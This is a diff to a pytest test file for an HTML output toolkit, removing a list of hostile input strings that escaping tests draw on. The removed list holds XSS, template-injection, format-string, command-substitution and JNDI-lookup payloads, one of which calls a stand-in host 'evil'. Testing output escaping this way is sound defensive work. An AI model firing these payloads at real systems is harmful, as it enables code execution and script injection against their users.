@@ -8,7 +8,7 @@ import pytest
 from toolkit.formats import html
 from toolkit.model import Block, Span, State
 
-from . import edition, labels, publication, text
+from . import HOSTILE, edition, labels, publication, text
 
 ALL = ("az", "en", "ru")
 VOID = {"meta", "link", "img"}
@@ -257,19 +257,6 @@ def test_a_published_page_has_no_marks():
 
 
 # ------------------------------------------------------------ hostile texts
-
-HOSTILE = [
-    "<script>alert(1)</script> & \"q\" 's'",
-    "--><script>alert(1)</script><!--",
-    "]]><evil/>",
-    "</script></title></style><img src=1 onerror=alert(1)>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1">',
-    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;",
-    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} {# c #}",
-    '{% trans %}x{% endtrans %} {{ _("x") }} %(x)s',
-    "Set {x} {0} {{y}} {x.__class__.__init__.__globals__} {:>99999999}",
-    "${jndi:ldap://evil/a} $(id) `id`",
-]
 
 
 @pytest.mark.parametrize("words", HOSTILE)
